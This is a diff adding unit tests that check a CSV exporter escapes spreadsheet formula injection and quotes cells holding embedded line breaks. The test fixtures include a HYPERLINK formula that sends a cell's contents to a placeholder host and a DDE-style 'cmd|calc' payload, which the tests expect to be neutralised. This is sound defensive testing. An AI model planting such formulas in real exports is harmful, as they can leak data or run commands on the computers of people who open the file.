@@ -79,6 +79,40 @@ describe('toCsv', () => {
     ]);
   });
 
+  it('escapes text cells a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
+    const text = toCsv([
+      {
+        name: '=HYPERLINK("http://x/?"&A1)',
+        payload: '+1+cmd|calc',
+        detail: '-2+3',
+        note: '@SUM(A1)',
+        n: -3.5,
+      },
+      { name: '\tTAB', payload: '\rCR', detail: 'a=b', note: 'ok-', n: 0 },
+      { name: '＝1+1', payload: '-', detail: '', note: null, n: -0.001 },
+    ]);
+    // OWASP: prefix a single quote; quoting by CSV rules comes on top (the cell holds a " or a CR).
+    expect(text.slice(1).split('\r\n')).toEqual([
+      'name,payload,detail,note,n',
+      `"'=HYPERLINK(""http://x/?""&A1)",'+1+cmd|calc,'-2+3,'@SUM(A1),-3.5`,
+      `'\tTAB,"'\rCR",a=b,ok-,0`,
+      `'＝1+1,'-,,,-0.001`,
+      '',
+    ]);
+  });
+
+  it('quotes a cell holding a lone CR or LF, so a payload cannot start a row of its own', () => {
+    const text = toCsv([{ payload: 'a\nb', detail: 'c\rd', n: 1 }]);
+    expect(text.slice(1)).toBe('payload,detail,n\r\n"a\nb","c\rd",1\r\n');
+  });
+
+  it('escapes formula-like names and payloads in every column, nested and joined ones too', () => {
+    const text = toCsv([
+      { name: { zh: '=1+2', en: '-x' }, times: ['-1', '2'], quota: [{ kind: 'water', unit: '@u' }] },
+    ]);
+    expect(text.slice(1).split('\r\n')[1]).toBe(`'=1+2,'-x,'-1;2,'@u`);
+  });
+
   it('writes the header of an empty list from the item schema', () => {
     const schema = Type.Object({
       id: Type.String(),
